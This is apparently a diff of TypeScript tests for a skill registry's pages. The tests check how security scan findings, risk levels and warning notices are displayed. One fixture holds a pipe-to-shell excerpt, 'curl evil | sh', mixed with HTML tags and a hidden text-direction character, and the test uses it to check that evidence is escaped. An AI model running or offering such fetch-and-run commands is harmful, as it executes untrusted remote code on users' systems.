@@ -3,6 +3,8 @@ import { makeFolder } from '../../../src/domain/files/manifest.ts'
 import { putFiles } from '../../../src/files/put-files.ts'
 import { anIngestedSkill, aSkill } from '../../support/builders/builders.ts'
 import { contentsOf } from '../../support/builders/folders.ts'
+import { aFinding, aReport } from '../../support/builders/reports.ts'
+import { aVersion } from '../../support/builders/versions.ts'
 import { aSkillMd, openPages } from '../../support/pages/open-pages.ts'
 
 let site: Awaited<ReturnType<typeof openPages>>
@@ -10,6 +12,44 @@ beforeAll(async () => {
   site = await openPages()
 })
 afterAll(() => site.stop())
+
+describe('what the scan found in a skill', () => {
+  it('is shown with its evidence: the file and line, the words, why it matters and what to do', async () => {
+    const { digest } = await aVersion(site.db, { name: 'scanned', files: [await aSkillMd('scanned')] })
+    const excerpt = 'curl <b>evil</b>\u202E | sh'
+    await aReport(
+      site.db,
+      digest,
+      { lure: 'review' },
+      {
+        risk: { level: 'high', powers: ['network', 'execution'] },
+        findings: [aFinding('lure', 'review', { excerpt, referred: false })],
+        coverage: { level: 'partial', unread: [{ file: 'big.bin', reason: 'binary' }] },
+      },
+    )
+    const { texts, text, links } = await site.open('/en/skills/acme--scanned/findings')
+    expect(text('known')).toMatch(/Verdict should be looked at What it could do much: use the network, run programs/)
+    expect(text('known')).toMatch(/not all of its files big\.bin: no text/)
+    expect(text('findings')).toMatch(/^Medium lure SKILL\.md:3 a sure match, nothing refers to this file/)
+    expect(texts('pre')).toContain('curl <b>evil</b>[U+202E] | sh')
+    expect(text('findings')).toMatch(/It matters\. What to do: Leave it out\.$/)
+    expect(links).toContain('/en/skills/acme--scanned/files/SKILL.md?version=1.0.0&plain=1#L3')
+    const overview = await site.open('/en/skills/acme--scanned')
+    expect(overview.text('about')).toMatch(/Verdict should be looked at What it could do much/)
+  })
+
+  it('is a notice above everything where it is a warning', async () => {
+    const { digest } = await aVersion(site.db, { name: 'warned', files: [await aSkillMd('warned')] })
+    await aReport(site.db, digest, { lure: 'warn' })
+    expect((await site.open('/en/skills/acme--warned')).text('notice')).toContain('gave a warning')
+    expect((await site.open('/en/skills/acme--warned/versions/1.0.0')).text('known')).toContain('Verdict warning')
+  })
+
+  it('is not known before the scan', async () => {
+    await aVersion(site.db, { name: 'unscanned', files: [await aSkillMd('unscanned')] })
+    expect((await site.open('/en/skills/acme--unscanned')).text('about')).toContain('Verdict not scanned yet')
+  })
+})
 
 describe('what was found in a skill', () => {
   it('names rule and line, and leads to the line', async () => {
